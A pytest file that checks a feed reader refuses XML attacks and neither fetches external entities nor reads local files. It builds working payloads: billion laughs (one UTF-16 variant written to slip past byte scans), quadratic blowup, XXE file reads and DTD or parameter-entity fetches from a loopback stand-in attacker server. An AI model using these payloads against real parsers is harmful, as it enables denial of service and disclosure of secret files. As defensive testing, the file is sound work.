"""XML attacks: entities are never expanded, external ones never fetched nor read from disk.

Every document is served to a real feedwatch (see ``harness``). The "attacker" is a
second loopback server on another port: it must receive no request at all. The
file an entity points at holds a secret that must appear nowhere in the database.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from harness import assert_failed, scene
from loopback import LoopbackServer

CATEGORY = "XML attacks"

ITEM = (
    "<item><title>Artificial intelligence and terrorism</title>"
    "<link>https://example.org/x</link><guid>x-1</guid>"
    "<description>&payload;</description></item>"
)


def billion_laughs(_: str, __: Path) -> bytes:
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    lines.append('<!ENTITY payload "&lol9;">')
    return _doc(f"<!DOCTYPE rss [{''.join(lines)}]>")


def quadratic_blowup(_: str, __: Path) -> bytes:
    big = "A" * 100_000
    item = ITEM.replace("&payload;", "&a;" * 20_000)
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{big}">]>'
        f'<rss version="2.0"><channel><title>t</title>{item}</channel></rss>'
    ).encode()


def external_file(_: str, secret: Path) -> bytes:
    return _doc(f'<!DOCTYPE rss [<!ENTITY payload SYSTEM "file://{secret}">]>')


def external_url(attacker: str, _: Path) -> bytes:
    return _doc(f'<!DOCTYPE rss [<!ENTITY payload SYSTEM "{attacker}/entity">]>')


def dtd_retrieval(attacker: str, _: Path) -> bytes:
    body = _doc(f'<!DOCTYPE rss SYSTEM "{attacker}/rss.dtd">')
    return body.replace(b"&payload;", b"plain")


def public_dtd(attacker: str, _: Path) -> bytes:
    body = _doc(f'<!DOCTYPE rss PUBLIC "-//Attacker//DTD RSS//EN" "{attacker}/public.dtd">')
    return body.replace(b"&payload;", b"plain")


def parameter_entity(attacker: str, _: Path) -> bytes:
    return _doc(f'<!DOCTYPE rss [<!ENTITY % remote SYSTEM "{attacker}/param.dtd"> %remote;]>')


def parameter_entity_file(_: str, secret: Path) -> bytes:
    return _doc(
        f'<!DOCTYPE rss [<!ENTITY % file SYSTEM "file://{secret}">'
        "<!ENTITY % wrap \"<!ENTITY payload '%file;'>\"> %wrap;]>"
    )


def utf16_billion_laughs(attacker: str, secret: Path) -> bytes:
    """The same bomb in UTF-16, so a byte-level scan for ``<!ENTITY`` cannot see it."""
    return (
        billion_laughs(attacker, secret)
        .decode()
        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
        .encode("utf-16")
    )


def _doc(doctype: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
        f'<rss version="2.0"><channel><title>t</title>{ITEM}</channel></rss>'
    ).encode()


CASES: dict[str, Callable[[str, Path], bytes]] = {
    "billion laughs": billion_laughs,
    "billion laughs in UTF-16": utf16_billion_laughs,
    "quadratic blowup": quadratic_blowup,
    "external entity, file": external_file,
    "external entity, URL": external_url,
    "DTD retrieval, SYSTEM": dtd_retrieval,
    "DTD retrieval, PUBLIC": public_dtd,
    "parameter entity, URL": parameter_entity,
    "parameter entity, file": parameter_entity_file,
}


@pytest.mark.parametrize("name", CASES)
def test_xml_attack_is_refused_and_nothing_is_fetched_or_read(
    name: str, tmp_path: Path, figures: Callable[..., None]
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-4711\n", encoding="utf-8")
    with LoopbackServer() as attacker, scene(tmp_path) as s:
        attacker.reply("/entity", body=b"FETCHED-ENTITY-0815")
        s.serve_victim(CASES[name](attacker.url(""), secret))
        outcome = s.attack()
        figures(outcome)
        assert_failed(outcome, "parse")
        assert attacker.requests == [], "an external entity or DTD was fetched"
    stored = s.db.read_bytes() + b"".join(
        p.read_bytes() for p in tmp_path.glob("feedwatch.db-*") if p.is_file()
    )
    assert b"TOP-SECRET" not in stored
    assert b"FETCHED-ENTITY" not in stored
    assert b"lollollol" not in stored
    # The victim's good items of the first poll are still there (checked in attack())
    assert len(outcome.after["victim"]) == 3
